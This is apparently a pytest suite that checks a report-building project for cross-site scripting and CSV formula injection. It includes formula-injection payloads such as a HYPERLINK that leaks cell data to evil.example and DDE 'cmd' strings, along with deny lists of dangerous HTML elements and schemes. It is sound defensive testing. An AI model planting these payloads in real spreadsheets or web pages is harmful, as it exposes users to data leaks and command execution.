"""Adversarial: hostile text in the inputs never becomes live HTML or a live formula.

Canaries (``<img src=x onerror=...>``, ``<script>``, ``javascript:`` links,
Markdown links and images, attribute break-outs, spreadsheet formulas) are put
into every place text enters the project: the params (title, stage, group
labels, indicator labels, claim texts), the XLSForm codebook (question and
choice labels, the form title), the raw answers (free text, enumerator names),
the reach export (post titles) and column names. The real pipeline then runs
and the HTML is parsed: no element or attribute coming from a canary may be
live. Every CSV the project writes is checked for cells that a spreadsheet
would run as a formula.
"""

from __future__ import annotations

import base64
import csv
import io
import math
import re
import warnings

import pandas as pd
import pytest
from bs4 import BeautifulSoup, XMLParsedAsHTMLWarning

from evalkit.atomic import neutralise_formula, write_csv_atomic

from .canaries import EVIL_HOST, HTML
from .helpers import CAMPAIGN

#: Text a spreadsheet (Excel, LibreOffice, Google Sheets) treats as a formula (OWASP "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

FORMULA_CANARIES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "-",
    "+",
]


def is_number(text: str) -> bool:
    """True for a cell a spreadsheet reads as a plain number (``-3.2``, ``1e-05``)."""
    try:
        return not math.isnan(float(text)) or text.strip().lower() == "nan"
    except ValueError:
        return False


def live_formula_cells(csv_text: str) -> list[tuple[int, int, str]]:
    """(row, column, value) of every cell, header included, that would run as a formula."""
    bad = []
    for r, row in enumerate(csv.reader(io.StringIO(csv_text))):
        for c, cell in enumerate(row):
            if cell.startswith(FORMULA_START) and not is_number(cell):
                bad.append((r, c, cell))
    return bad


@pytest.mark.parametrize("canary", FORMULA_CANARIES)
def test_formula_canary_in_a_text_cell_is_neutralised(tmp_path, canary):
    df = pd.DataFrame({"label": [canary, "ok"], "change_pp": [-3.5, 2.0]})
    text = write_csv_atomic(df, tmp_path / "r.csv").read_text(encoding="utf-8")
    assert live_formula_cells(text) == []
    back = pd.read_csv(tmp_path / "r.csv")
    assert back["label"].iloc[0] == "'" + canary.replace("\r", "\n") or back["label"].iloc[0].startswith("'")
    assert back["change_pp"].tolist() == [-3.5, 2.0], "negative numbers must stay numbers"


@pytest.mark.parametrize("dtype", ["object", "string", "category"])
def test_formula_canaries_in_every_text_dtype(tmp_path, dtype):
    df = pd.DataFrame({"text": pd.Series(FORMULA_CANARIES, dtype=dtype), "n": range(len(FORMULA_CANARIES))})
    text = write_csv_atomic(df, tmp_path / "r.csv").read_text(encoding="utf-8")
    assert live_formula_cells(text) == []


def test_formula_canary_in_a_column_name_and_mixed_column(tmp_path):
    df = pd.DataFrame({"=HYPERLINK(\"x\")": ["a"], "mixed": pd.Series(["=1+1"], dtype=object), "@who": [1]})
    text = write_csv_atomic(df, tmp_path / "r.csv").read_text(encoding="utf-8")
    assert live_formula_cells(text) == []


def test_numbers_written_as_text_stay_readable(tmp_path):
    df = pd.DataFrame({"value": pd.Series(["-3.2", "+4", "12"], dtype="string")})
    back = pd.read_csv(write_csv_atomic(df, tmp_path / "r.csv"), dtype=str)
    # neutralised or not, nothing here can run; the reader can still see the number
    assert [v.lstrip("'") for v in back["value"]] == ["-3.2", "+4", "12"]


def test_neutralise_formula_leaves_safe_values_alone():
    for v in ["agree", "Сайн", "", " =1", "1-2", 3, -3.5, None]:
        assert neutralise_formula(v) == v


# ---------------------------------------------------------------- the rendered report (canary run)


#: Attributes whose value a browser follows or runs.
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset", "background")
DANGEROUS_ELEMENTS = ("script", "iframe", "object", "embed", "form", "base", "frame", "frameset", "applet",
                      "foreignobject", "meta")


@pytest.fixture(scope="module")
def report(canary_built) -> BeautifulSoup:
    html = (canary_built / "reports" / f"{CAMPAIGN}.html").read_text(encoding="utf-8")
    return BeautifulSoup(html, "html.parser")


@pytest.fixture(scope="module")
def figures(report) -> list[BeautifulSoup]:
    """Every inline SVG figure of the report, decoded and parsed."""
    out = []
    for img in report.find_all("img"):
        src = img.get("src", "")
        if src.startswith("data:image/svg+xml;base64,"):
            svg = base64.b64decode(src.split(",", 1)[1]).decode("utf-8")
            with warnings.catch_warnings():
                warnings.simplefilter("ignore", XMLParsedAsHTMLWarning)
                out.append(BeautifulSoup(svg, "html.parser"))
    return out


def _live_problems(soup: BeautifulSoup, *, allow_head_meta: bool = True) -> list[str]:
    problems = []
    for tag in soup.find_all(True):
        name = tag.name.lower()
        if name in DANGEROUS_ELEMENTS and not (name == "meta" and allow_head_meta and tag.find_parent("head")):
            problems.append(f"<{name}> element: {str(tag)[:120]}")
        if name == "style" and not tag.find_parent("head"):
            problems.append(f"<style> outside <head>: {str(tag)[:120]}")
        for attr, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if attr.lower().startswith("on"):
                problems.append(f"event handler {attr}= on <{name}>")
            if attr.lower() in URL_ATTRIBUTES:
                v = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                if v.startswith(("javascript:", "vbscript:", "data:text/html")):
                    problems.append(f"{attr}={value[:60]!r} on <{name}>")
            if EVIL_HOST in value and (attr.lower() in URL_ATTRIBUTES or attr.lower() == "style"):
                problems.append(f"attribute {attr}= on <{name}> points at {EVIL_HOST}: {value[:80]!r}")
    for style in soup.find_all("style"):
        if EVIL_HOST in style.get_text():
            problems.append("a <style> element loads from the canary host")
    return problems


def test_report_has_no_live_element_or_attribute_from_a_canary(report):
    assert _live_problems(report) == []


def test_report_images_are_inline_data(report):
    for img in report.find_all("img"):
        assert img.get("src", "").startswith("data:image/"), img.get("src", "")[:80]


def test_report_links_are_anchors_pages_or_https(report):
    for a in report.find_all("a"):
        href = re.sub(r"[\s\x00-\x1f]", "", a.get("href", "")).lower()
        scheme = re.match(r"^([a-z][a-z0-9+.-]*):", href)
        assert scheme is None or scheme.group(1) in ("https", "http", "mailto"), f"link to {href!r}"
        assert EVIL_HOST not in href, f"a canary became a link: {href!r}"


def test_report_shows_canaries_as_text(report):
    """The canaries are escaped, not dropped: the reader sees exactly what the params say."""
    text = report.get_text()
    assert HTML["script"] in text, "the title canary is not shown as text"
    assert HTML["img"] in text, "the group label canary is not shown as text"
    title = report.find("title")
    assert title is not None and "<script>" in title.get_text()


def test_figures_are_inert(figures):
    assert figures, "no inline SVG figure found"
    for svg in figures:
        problems = [p for p in _live_problems(svg, allow_head_meta=False) if "<style> outside" not in p]
        assert problems == []


def test_every_csv_output_is_formula_safe(canary_built):
    csvs = sorted((canary_built / "reports" / CAMPAIGN).glob("*.csv")) + \
        sorted((canary_built / "data" / "processed" / CAMPAIGN).glob("*.csv"))
    assert any(p.name == "results.csv" for p in csvs)
    found = {p.name: live_formula_cells(p.read_text(encoding="utf-8")) for p in csvs}
    assert {k: v for k, v in found.items() if v} == {}
    labels = pd.read_csv(canary_built / "reports" / CAMPAIGN / "results.csv", dtype=str)["label"]
    assert labels.str.contains("@SUM", regex=False).any(), "the formula canary label did not reach results.csv"


def test_canary_column_without_a_mapping_is_refused_by_name(project):
    from evalkit.cleaning import clean_campaign
    from evalkit.errors import EvalkitError
    from evalkit.params import load_params

    from .test_bad_input import col, raw, read_rows, write_rows

    f = raw(project, "baseline.csv")
    rows = read_rows(f)
    rows[0][col(rows, "demo/education")] = HTML["script"]
    write_rows(f, rows)
    with pytest.raises(EvalkitError) as err:
        clean_campaign(load_params(CAMPAIGN))
    assert repr(HTML["script"]) in str(err.value) and "baseline.csv" in str(err.value)


def test_escaped_css_url_text_does_not_block_the_report(tmp_path):
    """Text that merely *mentions* ``url(//...)`` or ``@import`` is escaped, so the report must still build."""
    import html as html_lib

    import nbformat

    from evalkit.report.htmlexport import export_html

    from .canaries import CSS_FETCH

    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("# Report"),
                nbformat.v4.new_code_cell("x", outputs=[nbformat.v4.new_output(
                    "display_data", data={"text/html": f"<p>{html_lib.escape(CSS_FETCH)}</p>",
                                          "text/plain": CSS_FETCH})])]
    src = tmp_path / "02_evaluate.ipynb"
    nbformat.write(nb, src)
    out = export_html(src, tmp_path / "r.html")
    soup = BeautifulSoup(out.read_text(encoding="utf-8"), "html.parser")
    assert CSS_FETCH in soup.get_text()
    assert _live_problems(soup) == []


def test_index_page_with_canaries_has_nothing_live(canary_built):
    """``evalkit index`` (stage cards from results.csv labels) on the canary run, the only stage built."""
    from .helpers import evalkit

    res = evalkit(canary_built, "index")
    assert res.returncode == 0, res.stderr[-3000:]
    soup = BeautifulSoup((canary_built / "reports" / "index.html").read_text(encoding="utf-8"), "html.parser")
    assert _live_problems(soup) == []


@pytest.mark.parametrize("canary", ["Parents;=HYPERLINK(A1)", "Parents,=1+1", "Parents\t@SUM(A1)",
                                    "a; +cmd|' /C calc'!A0", "x;-2+3+cmd|' /C calc'!A0"])
def test_formula_behind_a_list_separator_is_neutralised(tmp_path, canary):
    """Issue 17: a spreadsheet whose list separator is ';' (or ',' or tab) splits the cell there."""
    df = pd.DataFrame({"label": [canary], "n": [1]})
    text = write_csv_atomic(df, tmp_path / "r.csv").read_text(encoding="utf-8")
    for sep in (",", ";", "\t"):
        for line in text.splitlines():
            for cell in line.split(sep):
                cell = cell.strip().strip('"').strip()
                assert not (cell.startswith(FORMULA_START) and not is_number(cell)), (sep, cell, text)


# ---------------------------------------------------------------- issue 17 (a): every text cell quoted


@pytest.mark.parametrize("sep", [",", ";", "\t"])
def test_every_text_cell_is_quoted_so_any_separator_keeps_it_whole(tmp_path, sep):
    """A spreadsheet splitting at ';' or tab must still see each text cell as one cell (quoted)."""
    df = pd.DataFrame({"label": ["Parents;=HYPERLINK(A1)", "a\tb", "plain", None],
                       "cat": pd.Categorical(["x;y", "x;y", "z", "z"]),
                       "change_pp": [-3.5, 2.0, float("nan"), 1.0], "n": [1, 2, 3, 4]})
    text = write_csv_atomic(df, tmp_path / "r.csv").read_text(encoding="utf-8")
    lines = text.splitlines()
    assert lines[0] == '"label","cat","change_pp","n"'
    for row in csv.reader(io.StringIO(text), delimiter=sep):
        # read with this locale's separator, a quoted text is one cell: nothing in it starts a formula
        assert not [c for c in row if c.startswith(FORMULA_START) and not is_number(c)], row
    assert lines[1].startswith('"Parents;\'=HYPERLINK(A1)","x;y",-3.5,1'), lines[1]
    assert lines[4] == ',"z",1,4', lines[4]  # missing text stays empty, numbers stay bare
    back = pd.read_csv(tmp_path / "r.csv")
    assert back["change_pp"].tolist()[:2] == [-3.5, 2.0] and back["n"].tolist() == [1, 2, 3, 4]
    assert back["label"].iloc[2] == "plain"
